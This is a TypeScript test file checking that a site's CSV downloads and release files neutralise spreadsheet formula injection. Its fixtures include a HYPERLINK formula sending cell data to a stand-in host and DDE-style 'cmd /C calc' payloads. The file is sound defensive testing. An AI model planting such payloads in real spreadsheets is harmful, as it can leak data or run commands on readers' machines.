import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { approvedPosition } from "@/db/factories";
import { createTestDatabase, type TestDatabase, TEST_DRIVERS } from "@/server/testing/database";
import { compareGovernments } from "@/server/services/compare";
import { readImportFile } from "@/server/services/import-file";
import { listPositions } from "@/server/services/positions";
import { buildReleaseFiles, releaseRows } from "@/server/services/release-snapshot";
import { compareStancesCsv } from "./compare-csv";
import { positionsCsv } from "./positions-csv";

// Every CSV the site writes (downloads and release files) is opened in spreadsheets: a cell that
// starts like a formula (=, +, -, @, tab, CR) must reach the reader as text, never run.

const SUMMARY = '=HYPERLINK("https://evil.example/?d="&A1,"Kenya spoke for its exchange point")';
const QUOTE = "@SUM(1+1)*cmd|' /C calc'!A0";
const END_NOTE = "-2+3 left the coalition";

/** The CSV's records as objects by header. */
const recordsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

describe.each(TEST_DRIVERS)("CSV files neutralise spreadsheet formulas on %s", (kind) => {
  let t: TestDatabase;
  beforeAll(async () => {
    t = await createTestDatabase(kind, { dataset: false });
    await approvedPosition(t.db, {
      government: "KEN",
      topic: "ixps",
      stance: "mixed",
      statedOn: "2014-04-23",
      summary: SUMMARY,
      quote: QUOTE,
      end: { on: "2015-01-01", note: END_NOTE, source: "https://example.org/left" },
    });
  });
  afterAll(() => t.destroy());

  it("escapes a summary, a quote and an end note that start like formulas in /api/v1/positions.csv", async () => {
    const [row] = recordsOf(positionsCsv(await listPositions(t.db, { government: "KEN" })));
    expect(row).toMatchObject({ summary: `'${SUMMARY}`, quote: `'${QUOTE}`, end_note: `'${END_NOTE}` });
  });

  it("escapes them in a new release's positions.csv, and leaves its numbers (a score of -2) as numbers", async () => {
    const rows = await t.db.transaction((tx) => releaseRows(tx, new URL("https://stanceatlas.example")));
    const [csv] = buildReleaseFiles(
      1,
      new Date(),
      rows.map((row) => ({ ...row, score: -2 })),
    );
    const [row] = recordsOf(csv?.body ?? "");
    expect(row).toMatchObject({ summary: `'${SUMMARY}`, quote: `'${QUOTE}`, end_note: `'${END_NOTE}`, score: "-2" });
  });

  it("escapes a topic title that starts like a formula in compare.csv", async () => {
    const comparison = await compareGovernments(t.db, { governments: ["KEN", "BRA"], at: "2014-06-30" });
    const titled = {
      ...comparison,
      topics: comparison.topics.map((topic) => ({ ...topic, title: "+1+cmd|' /C calc'!A0" })),
    };
    const [row] = recordsOf(compareStancesCsv(titled));
    expect(row?.title).toBe("'+1+cmd|' /C calc'!A0");
  });

  it("reads an escaped download back as the text it holds, so positions.csv still imports unchanged", async () => {
    const read = await readImportFile(t.db, positionsCsv(await listPositions(t.db, { government: "KEN" })));
    expect(read.errors).toEqual([]);
    expect(read.rows[0]).toMatchObject({ summary: SUMMARY, quote: QUOTE, end: { note: END_NOTE } });
  });
});
